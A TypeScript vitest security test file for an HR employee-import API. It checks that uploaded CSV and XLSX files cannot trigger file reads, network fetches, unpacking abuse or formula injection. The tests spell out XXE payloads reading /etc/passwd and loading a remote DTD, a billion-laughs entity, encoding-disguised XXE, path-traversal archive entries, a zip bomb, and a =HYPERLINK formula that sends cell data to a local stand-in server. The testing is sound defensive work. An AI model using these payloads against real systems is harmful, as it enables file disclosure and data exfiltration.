import { readdir } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { buffer } from 'node:stream/consumers';
import type { Worker } from 'node:worker_threads';
import { afterAll, describe, expect, test } from 'vitest';
import { fromBufferPromise } from 'yauzl';
import { inline, row, workbookParts, zipOf } from '../testing/sheet-fixtures.ts';
import type { Parts } from '../testing/sheet-fixtures.ts';
import { startApp } from '../testing/app.ts';

/** K12: files that try to make the service read, fetch, unpack or calculate something. */

const { as, make, deps, owner } = await startApp();
const entity = await make.entity({ name: 'Acme' });
await make.department({ entity_id: entity.id, name: 'Sales' });
const hr = await as((await make.employee({ roles: ['HR'] })).user_id);

/** A third-party server that the service must never contact. */
const asked: string[] = [];
const elsewhere = createServer((request, response) => {
  asked.push(request.url ?? '');
  response.end('<!ENTITY leaked "LEAKED">');
});
await new Promise<void>((resolve) => void elsewhere.listen(0, '127.0.0.1', resolve));
afterAll(() => elsewhere.close());
const url = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;

const upload = (content: string | Buffer, name: string, fields: Record<string, string> = {}) =>
  hr.upload('/api/employees/import', { name, content }, fields);
type Staged = { errors: Record<string, string[]> };
const leaked = /root:x:|LEAKED|\/bin\/(ba)?sh/;
async function expectNothingLeaked() {
  const { rows } = await owner.query(
    "select coalesce(string_agg(r::text, ''), '') || (select coalesce(string_agg(e::text, ''), '') from employees e) as text from import_rows r",
  );
  expect((rows[0] as { text: string }).text).not.toMatch(leaked);
  expect(asked).toEqual([]);
}
const count = async (table: string) =>
  (await owner.query(`select count(*)::int as n from ${table}`)).rows[0].n as number;

const book = (
  changes: Parts = {},
  sheet = row(...['first_name', 'last_name', 'email', 'entity', 'department'].map(inline)),
) =>
  zipOf(
    workbookParts(sheet + row(...['Ann', 'Lee', 'ann.lee@example.com', 'Acme', 'Sales'].map(inline)), {
      '[Content_Types].xml':
        '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
      ...changes,
    }),
  );

describe('an import fetches nothing', () => {
  const places = [
    `${url}/a.png`,
    'file:///etc/passwd',
    '/etc/passwd',
    '../../../../etc/passwd',
    'php://filter/resource=/etc/passwd',
  ];

  test('cells with addresses and paths are plain texts', async () => {
    const columns = ['profile_picture_url', 'photo', 'file', 'image', 'url', 'attachment'];
    const lines = places.map((place, n) =>
      [`Ann${n}`, 'Lee', `ann${n}@example.com`, 'Acme', 'Sales', place, ...columns.map(() => place)].join(','),
    );
    const header = ['first_name', 'last_name', 'email', 'entity', 'department', 'job_title', ...columns].join(',');
    const answer = await upload([header, ...lines].join('\n'), 'people.csv');
    expect([answer.status, answer.body.data.counts.created]).toEqual([201, places.length]);
    const { rows } = await owner.query(
      "select job_title, picture_key from employees where first_name like 'Ann%' order by id",
    );
    expect(rows).toEqual(places.map((place) => ({ job_title: place, picture_key: null })));
    await expectNothingLeaked();
  });

  test.each(places)('a form with %s instead of a file has no file', async (place) => {
    for (const body of [
      { file: place },
      { file: { path: place } },
      { url: place, path: place, source: place },
      { file_key: place },
    ]) {
      const answer = await hr.post('/api/employees/import', body);
      expect([answer.status, Object.keys(answer.body.errors)]).toEqual([422, ['file']]);
    }
    await expectNothingLeaked();
  });
});

describe('a workbook', () => {
  const sheetWith = (prolog: string, text: string) =>
    `${prolog}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${row(...['first_name', 'last_name', 'email', 'entity', 'department'].map(inline))}${row(...[text, 'Lee', 'x@example.com', 'Acme', 'Sales'].map(inline))}</sheetData></worksheet>`;
  const external = `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>`;
  const remote = `<!DOCTYPE r [<!ENTITY % p SYSTEM "${url}/p.dtd"> %p;]>`;
  const laughs = `<!DOCTYPE r [<!ENTITY a "LEAKED"><!ENTITY x "&a;&a;&a;&a;">]>`;
  const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
  const declared = (encoding: string) => `<?xml version="1.0" encoding="${encoding}"?>`;
  const workbook = (prolog: string) => `${prolog}${String(workbookParts('')['xl/workbook.xml'])}`;

  test.each<[string, Parts]>([
    ['an entity that is a file', { 'xl/worksheets/sheet1.xml': sheetWith(external, '&x;') }],
    ['an entity that is elsewhere', { 'xl/worksheets/sheet1.xml': sheetWith(remote, '&leaked;') }],
    ['entities that multiply', { 'xl/worksheets/sheet1.xml': sheetWith(laughs, '&x;') }],
    ['a type by its address alone', { 'xl/worksheets/sheet1.xml': sheetWith(`<!DOCTYPE r SYSTEM "${url}/x">`, 'Ann') }],
    ['an entity in its list of sheets', { 'xl/workbook.xml': workbook(external) }],
    ['an entity in its shared texts', { 'xl/sharedStrings.xml': `${external}<sst><si><t>&x;</t></si></sst>` }],
    [
      'an entity in two bytes a letter',
      { 'xl/worksheets/sheet1.xml': utf16(sheetWith(declared('UTF-16') + external, '&x;')) },
    ],
    [
      'an entity in an encoding of mail',
      { 'xl/worksheets/sheet1.xml': sheetWith(declared('UTF-7') + external.replaceAll('<', '+ADw-'), '+ACY-x;') },
    ],
  ])('with %s reveals nothing and contacts no server', async (_what, changes) => {
    const before = [await count('imports'), await count('employees')];
    const answer = await upload(await book(changes), 'people.xlsx');
    expect(answer.bytes.toString()).not.toMatch(leaked);
    await expectNothingLeaked();
    expect([answer.status, Object.keys(answer.body.errors)]).toEqual([422, ['file']]);
    expect([await count('imports'), await count('employees')]).toEqual(before);
  });

  test('with external links opens none of them', async () => {
    const link = `<Relationship Id="rId1" Type="x/externalLink" Target="${url}/book.xlsx" TargetMode="External"/>`;
    const answer = await upload(
      await book({
        'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook r:id="rId1"/></externalLink>',
        'xl/externalLinks/_rels/externalLink1.xml.rels': `<Relationships>${link}</Relationships>`,
        'xl/worksheets/_rels/sheet1.xml.rels': `<Relationships>${link}</Relationships>`,
        'xl/connections.xml': `<connections><connection><webPr url="${url}/q"/></connection></connections>`,
      }),
      'people.xlsx',
      { dry_run: '1' },
    );
    expect(answer.status).toBe(201);
    await expectNothingLeaked();
  });

  test.each([
    '../../../evil.txt',
    '/tmp/tenure-evil.txt',
    '..\\..\\evil.txt',
    'xl/../../../../evil.txt',
    'C:\\evil.txt',
  ])('with a part called %s writes nothing outside', async (name) => {
    // the archive library refuses such names, so the test patches them in afterwards
    const harmless = 'x'.repeat(name.length);
    const bytes = (await book({ [harmless]: 'evil' })).toString('latin1').replaceAll(harmless, name);
    const answer = await upload(Buffer.from(bytes, 'latin1'), 'people.xlsx', { dry_run: '1' });
    expect([201, 422]).toContain(answer.status);
    const files = [
      ...(await readdir(deps.config.DATA_DIR, { recursive: true })),
      ...(await readdir(`${deps.config.DATA_DIR}/..`)),
      ...(await readdir('/tmp')),
    ];
    expect(files.filter((file) => file.includes('evil'))).toEqual([]);
  });

  test('that is a zip bomb is refused, and ten at once do not block other requests', async () => {
    const bomb = await book({}, row(inline(' '.repeat(8 * 1024 * 1024))));
    const before = [await count('imports'), await readdir(`${deps.config.DATA_DIR}/incoming`)];
    const bombs = Array.from({ length: 10 }, () => upload(bomb, 'people.xlsx'));
    expect((await hr.get('/api/me')).status).toBe(200);
    // some may not get a free worker in time
    for (const { status } of await Promise.all(bombs)) expect([422, 503]).toContain(status);
    expect([await count('imports'), await readdir(`${deps.config.DATA_DIR}/incoming`)]).toEqual(before);
  });
});

describe('a text as long as a cell may be', () => {
  test('is no heading: it would be compared with the name of each field', async () => {
    const before = await count('imports');
    const file = (heading: string) =>
      `first_name,last_name,email,entity,department,${heading}\nAnn,Lee,ann.l@example.com,Acme,Sales,x\n`;
    const refused = await upload(file('x'.repeat(256)), 'people.csv', { dry_run: '1' });
    expect([refused.status, refused.body.errors.file]).toEqual([422, [expect.stringContaining('255')]]);
    expect(await count('imports')).toBe(before);
    expect((await upload(file('x'.repeat(255)), 'people.csv', { dry_run: '1' })).status).toBe(201);
  });
});

test('of names that a file has by the hundreds, the first two hundred are compared with all departments', async () => {
  const rows = Array.from({ length: 210 }, (_, n) => `Ann,Lee,ann.${n}@example.com,Acme,Sales ${n}`);
  const file = ['first_name,last_name,email,entity,department', ...rows].join('\n');
  const { body } = await upload(file, 'people.csv', { dry_run: '1' });
  const pages = await Promise.all(
    [1, 2, 3].map((page) => hr.get(`/api/employees/imports/${body.data.id}/rows?per_page=100&page=${page}`)),
  );
  const said = pages.flatMap((page) => page.body.data.map((row: Staged) => row.errors.department_id?.[0]));
  const hinted = said.filter((message) => message?.endsWith('Did you mean Sales?'));
  expect([said.length, hinted.length]).toEqual([210, 200]);
});

describe('files sent at once', () => {
  const file = (n: number) => `first_name,last_name,email,entity,department\nAnn,Lee,ann.${n}@example.com,Acme,Sales\n`;
  /** The responses, and how many files were being read when each one began. */
  async function sendAll(users: readonly (typeof hr)[]) {
    const [living, counts] = [new Set<Worker>(), [] as number[]];
    const note = (reader: Worker) => {
      counts.push(living.add(reader).size);
      reader.once('exit', () => living.delete(reader));
    };
    process.on('worker', note);
    const answers = await Promise.all(
      users.map((user, n) =>
        user.upload('/api/employees/import', { name: `people-${n}.csv`, content: file(n) }, { dry_run: '1' }),
      ),
    );
    process.off('worker', note);
    return { statuses: answers.map(({ status }) => status), counts };
  }

  test('by four users are read three at a time', async () => {
    const others = await Promise.all([1, 2, 3].map(async () => as((await make.employee({ roles: ['HR'] })).user_id)));
    const { statuses, counts } = await sendAll([hr, ...others].flatMap((user) => [user, user]));
    expect(statuses).toEqual(Array(8).fill(201));
    expect([counts.length, Math.max(...counts)]).toEqual([8, 3]);
  });

  test('by one user are read one at a time', async () => {
    const { statuses, counts } = await sendAll([hr, hr, hr, hr]);
    expect(statuses).toEqual(Array(4).fill(201));
    expect([counts.length, Math.max(...counts)]).toEqual([4, 1]);
  });
});

describe('a person whose name is a formula', () => {
  const attack = `=HYPERLINK("${url}/?"&A1,"Click")`;
  const sheetOf = async (xlsx: Buffer) => {
    const archive = await fromBufferPromise(xlsx);
    for await (const entry of archive.eachEntry())
      if (entry.fileName === 'xl/worksheets/sheet1.xml')
        return String(await buffer(await archive.openReadStreamPromise(entry)));
    return '';
  };

  test('is no formula in an export of HR, and keeps its name when imported again', async () => {
    const person = await make.employee();
    const self = await as(person.user_id);
    expect((await self.put('/api/profile', { display_name: attack, phone: '+49 30 1' })).status).toBe(200);
    expect((await self.get('/api/me')).body.data.user.name).toBe(attack);
    const query = `/api/employees/export?search=${person.employee_number}`;
    const csv = (await hr.get(`${query}&format=csv`)).bytes.toString();
    expect(csv).toContain(`"'${attack.replaceAll('"', '""')}"`);
    expect(csv).not.toMatch(/(^|,|")[=+@]/m);
    const xlsx = (await hr.get(`${query}&format=xlsx`)).bytes;
    const sheet = await sheetOf(xlsx);
    expect(sheet).toContain('HYPERLINK');
    expect(sheet).not.toMatch(/<f[ >]/);
    const again = await upload(csv, 'people.csv', { on_conflict: 'update' });
    expect(again.body.data.counts).toMatchObject({ total: 1, skipped: 1, updated: 0, failed: 0 });
  });
});
